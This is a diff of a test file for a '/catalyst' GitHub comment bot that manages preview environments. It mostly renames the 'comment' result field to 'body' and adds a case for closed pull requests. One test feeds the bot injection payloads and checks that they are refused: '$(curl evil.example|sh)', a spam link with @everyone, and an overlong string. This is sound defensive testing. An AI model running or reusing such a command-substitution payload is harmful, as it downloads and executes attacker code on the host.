@@ -45,7 +45,7 @@ describe("catalyst github command", () => {
     it("does nothing for a comment without a command: no backend read, no reaction, no comment edit", async () => {
         const { code, answer } = await run("Nice work! Maybe /catalyst redeploy later.");
         expect(code).toBe(EXIT.ok);
-        expect(answer).toEqual({ command: null, accepted: false, reaction: null, answer: null, marker: PREVIEW_COMMENT_MARKER, comment: null });
+        expect(answer).toEqual({ command: null, accepted: false, reaction: null, answer: null, marker: PREVIEW_COMMENT_MARKER, body: null });
         expect(calls).toEqual([]);
     });
 
@@ -54,8 +54,8 @@ describe("catalyst github command", () => {
         expect(code).toBe(EXIT.ok);
         expect(calls[1]).toEqual(["upPreview", [{ pr: 7, branch: "feat/x", sha: "abcdef1234567", image: "ghcr.io/o/r:abcdef1", owners: ["alice"], ttl: 48 * 3_600_000, refresh: undefined }, expect.anything()]]);
         expect(answer).toMatchObject({ command: "extend", accepted: true, reaction: "+1", answer: "`/catalyst extend 2d` from `alice`: done: the preview now expires 2d from now" });
-        expect(answer.comment).toContain("### Preview environment: ready");
-        expect(answer.comment).toContain("**Last command:** `/catalyst extend 2d` from `alice`: done");
+        expect(answer.body).toContain("### Preview environment: ready");
+        expect(answer.body).toContain("**Last command:** `/catalyst extend 2d` from `alice`: done");
     });
 
     it("redeploys for a user with write access: the preview's last up again, with a refresh", async () => {
@@ -75,7 +75,7 @@ describe("catalyst github command", () => {
         previews = [];
         const extend = await run("/catalyst extend 1d", "--commenter", "alice");
         expect([extend.code, extend.answer.reaction, extend.answer.answer]).toEqual([EXIT.usage, "confused", "`/catalyst extend 1d` from `alice`: there is no preview to extend; push a commit or comment /catalyst redeploy first"]);
-        expect(extend.answer.comment).toContain("### Preview environment: none");
+        expect(extend.answer.body).toContain("### Preview environment: none");
         const redeploy = await run("/catalyst redeploy", "--commenter", "alice");
         expect(redeploy.code).toBe(EXIT.usage);
         expect(calls.map((c) => c[0])).toEqual(["listPreviews"]);
@@ -85,7 +85,7 @@ describe("catalyst github command", () => {
         const { code, answer } = await run("/catalyst destroy", "--permission", "admin");
         expect(code).toBe(EXIT.ok);
         expect(calls[1]).toEqual(["destroyPreview", [7, expect.anything()]]);
-        expect(answer.comment).toContain("### Preview environment: destroyed");
+        expect(answer.body).toContain("### Preview environment: destroyed");
     });
 
     it("refuses the wrong user with -1 and runs nothing", async () => {
@@ -108,7 +108,7 @@ describe("catalyst github command", () => {
         for (const body of ["/catalyst deploy-everything", "/catalyst $(curl evil.example|sh)", "/catalyst [x](https://evil.example) @everyone", `/catalyst ${"A".repeat(10_240)}`]) {
             const { code, answer } = await run(body, "--commenter", "alice");
             expect([code, answer.reaction]).toEqual([EXIT.usage, "confused"]);
-            expect(answer.comment).not.toMatch(/curl|evil|@everyone|AAAA/);
+            expect(answer.body).not.toMatch(/curl|evil|@everyone|AAAA/);
             expect(calls.map((c) => c[0])).toEqual(["listPreviews"]);
         }
     });
@@ -117,8 +117,8 @@ describe("catalyst github command", () => {
         next = { ...ok("up"), status: "failed", error: "timed out waiting for Deployment app", failedResource: { urn: "u", type: "kubernetes:apps/v1:Deployment", name: "app" } };
         const { code, answer } = await run("/catalyst redeploy", "--commenter", "alice");
         expect([code, answer.reaction]).toEqual([EXIT.failed, "-1"]);
-        expect(answer.comment).toContain("**Error:** `timed out waiting for Deployment app`");
-        expect(answer.comment).toContain("**Failing resource:** `kubernetes:apps/v1:Deployment` `app`");
+        expect(answer.body).toContain("**Error:** `timed out waiting for Deployment app`");
+        expect(answer.body).toContain("**Failing resource:** `kubernetes:apps/v1:Deployment` `app`");
     });
 
     it("refuses bad flags by name and a missing body", async () => {
@@ -178,6 +178,11 @@ describe("the preview comment", () => {
             writeFileSync(file, "npm ERR! something broke\n");
             expect((await out("--result", file)).stdout).toContain("**Error:** `catalyst printed no result`");
             expect((await out("--result", path.join(dir, "missing.json"))).stdout).toContain("### Preview environment: failed");
+            // A closed pull request that never had a preview gets no comment about one.
+            writeFileSync(file, JSON.stringify({ ...ok("destroy"), noop: true }));
+            expect(JSON.parse((await out("--result", file, "--json")).stdout)).toEqual({ marker: PREVIEW_COMMENT_MARKER, body: null });
+            writeFileSync(file, JSON.stringify(ok("destroy")));
+            expect(JSON.parse((await out("--result", file, "--json")).stdout).body).toContain("### Preview environment: destroyed");
         } finally {
             rmSync(dir, { recursive: true, force: true });
         }
